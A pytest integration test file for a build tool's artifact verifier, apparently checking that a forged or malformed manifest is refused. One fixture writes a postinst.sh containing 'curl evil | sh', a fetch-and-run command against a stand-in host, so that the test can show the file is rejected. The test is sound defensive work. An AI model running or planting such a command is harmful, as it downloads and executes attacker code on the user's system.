"""artifact.json is checked against its schema, the recipe's target and the kinds of files a build
leaves, before anything in it is believed."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from builder.core.context import Context
from builder.core.digest import sha256_file
from builder.core.errors import PfbuildError
from builder.publish.artifact import MANIFEST, verify_artifact
from tests.fixtures.artifacts import exported

# The artifacts are made with dpkg-deb: an integration test by the tiers' rule (tests/conftest.py).
pytestmark = pytest.mark.integration


def edit(folder: Path, **changes: object) -> None:
    data = json.loads((folder / MANIFEST).read_text())
    (folder / MANIFEST).write_text(json.dumps({**data, **changes}))


def put_file(folder: Path, name: str, data: bytes) -> None:
    """Write a file into the artifact and re-hash the manifest, as a forger would."""
    (folder / name).unlink(missing_ok=True)  # artifact files are hard links into the build
    (folder / name).write_bytes(data)
    files = [
        {"name": p.name, "sha256": sha256_file(p), "size": p.stat().st_size}
        for p in sorted(folder.iterdir())
        if p.name != MANIFEST
    ]
    edit(folder, files=files)


def test_an_unknown_key_in_the_manifest_is_refused(ctx: Context) -> None:
    folder = exported(ctx)
    edit(folder, trusted=True)
    with pytest.raises(PfbuildError) as refused:
        verify_artifact(folder)
    assert f"{folder / MANIFEST} is malformed: at the top level: Additional properties" in str(
        refused.value
    )


def test_a_verdict_that_is_neither_pass_nor_fail_is_refused(ctx: Context) -> None:
    folder = exported(ctx)
    report = json.loads((folder / "hardening.json").read_text())
    put_file(folder, "hardening.json", json.dumps({**report, "verdict": "maybe"}).encode())
    edit(folder, check={"verdict": "maybe", "report": "hardening.json"})
    with pytest.raises(PfbuildError, match=re.escape("is malformed: at check")):
        verify_artifact(folder)


def test_a_file_no_build_leaves_is_refused(ctx: Context) -> None:
    folder = exported(ctx)
    put_file(folder, "postinst.sh", b"#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(PfbuildError, match=re.escape("lists postinst.sh, which no build leaves")):
        verify_artifact(folder)


def test_an_artifact_of_another_architecture_is_refused(ctx: Context) -> None:
    folder = exported(ctx)
    edit(folder, arch="arm64")
    with pytest.raises(PfbuildError, match=re.escape("built for 'arm64', not trixie's amd64")):
        verify_artifact(folder)
